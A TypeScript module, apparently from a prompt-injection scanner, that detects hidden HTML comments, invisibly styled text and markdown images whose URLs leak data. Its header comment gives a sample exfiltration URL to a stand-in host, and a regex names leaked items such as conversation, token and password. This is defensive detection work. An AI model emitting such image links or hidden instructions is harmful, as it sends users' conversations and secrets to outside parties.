import type { Finding } from './types';

/**
 * Text in data that a person reading the rendered page does not see but a model reads: HTML
 * comments, elements styled invisible, and markdown images whose URL is built to carry data out
 * ("![](https://evil.example/log?q={conversation})"), rendered by the client without a click.
 * Returns the hidden segments (to be read by the instruction rules) and direct findings.
 */
export interface HiddenSegment {
  readonly start: number;
  readonly end: number;
}

export interface MarkupScan {
  readonly hidden: HiddenSegment[];
  readonly findings: Finding[];
}

/** An HTML comment longer than this is a commented-out block, read only up to here. */
const MAX_COMMENT = 4096;
const MAX_URL = 2048;

const INVISIBLE_STYLE = /display\s{0,3}:\s{0,3}none|visibility\s{0,3}:\s{0,3}hidden|font-size\s{0,3}:\s{0,3}0(?![.\d])|opacity\s{0,3}:\s{0,3}0(?![.\d])|color\s{0,3}:\s{0,3}(?:#fff\b|#ffffff\b|white\b|transparent\b)/i;
/** A query value that is a template to be filled in, or a parameter named after what leaks. */
const EXFIL_QUERY = /[?&][\w-]{0,32}=(?:[^&#\s)]{0,64}[{<$[]|\S{0,8}(?:conversation|history|chat|secret|password|token|data|memory|context|summary|email)\b)/i;

/** Hidden segments in order, overlapping or touching ones merged. */
function merged(segments: HiddenSegment[]): HiddenSegment[] {
  const sorted = segments.sort((a, b) => a.start - b.start);
  const out: HiddenSegment[] = [];
  for (const s of sorted) {
    const last = out[out.length - 1];
    if (last !== undefined && s.start <= last.end + 1) out[out.length - 1] = { start: last.start, end: Math.max(last.end, s.end) };
    else out.push(s);
  }
  return out;
}

/** `text.indexOf(needle, from)` looking no further than `limit` units: bounded work per call. */
function indexWithin(text: string, needle: string, from: number, limit: number): number {
  const at = text.slice(from, from + limit + needle.length).indexOf(needle);
  return at < 0 ? -1 : from + at;
}

export function scanMarkup(text: string): MarkupScan {
  const hidden: HiddenSegment[] = [];
  const findings: Finding[] = [];
  if (text.includes('<!--')) {
    for (let at = text.indexOf('<!--'); at >= 0; ) {
      const close = text.indexOf('-->', at + 4);
      const end = close >= 0 ? close + 3 : text.length;
      hidden.push({ start: at + 4, end: Math.min(close >= 0 ? close : text.length, at + 4 + MAX_COMMENT) });
      at = close >= 0 ? text.indexOf('<!--', end) : -1;
    }
  }
  if (text.includes('style=')) {
    // The next closing tag is looked up with a cursor that only moves forward.
    let closeTag = 0;
    for (let at = text.indexOf('style='); at >= 0; at = text.indexOf('style=', at + 6)) {
      const tagEnd = indexWithin(text, '>', at, 200);
      if (tagEnd < 0 || !INVISIBLE_STYLE.test(text.slice(at, tagEnd))) continue;
      if (closeTag >= 0 && closeTag <= tagEnd) closeTag = text.indexOf('</', tagEnd);
      const end = Math.min(closeTag >= 0 ? closeTag : text.length, tagEnd + 1 + MAX_COMMENT);
      if (end > tagEnd + 1) hidden.push({ start: tagEnd + 1, end });
    }
  }
  if (text.includes('![')) {
    // Each unit is read once: the next image is looked for after the end of this one's URL.
    for (let at = text.indexOf('!['); at >= 0; ) {
      const altEnd = indexWithin(text, '](', at + 2, 512);
      if (altEnd < 0) {
        at = text.indexOf('![', at + 2);
        continue;
      }
      let urlEnd = altEnd + 2;
      while (urlEnd < text.length && urlEnd - altEnd < MAX_URL && text.charCodeAt(urlEnd) !== 0x29 && text.charCodeAt(urlEnd) > 0x20) urlEnd++;
      const url = text.slice(altEnd + 2, urlEnd);
      if (/^https?:\/\//i.test(url) && EXFIL_QUERY.test(url)) findings.push({ check: 'injection', type: 'EXFILTRATION', start: at, end: Math.min(text.length, urlEnd + 1), score: 0.9 });
      if (altEnd > at + 2) hidden.push({ start: at + 2, end: altEnd });
      at = text.indexOf('![', Math.max(urlEnd, at + 2));
    }
  }
  return { hidden: merged(hidden), findings };
}
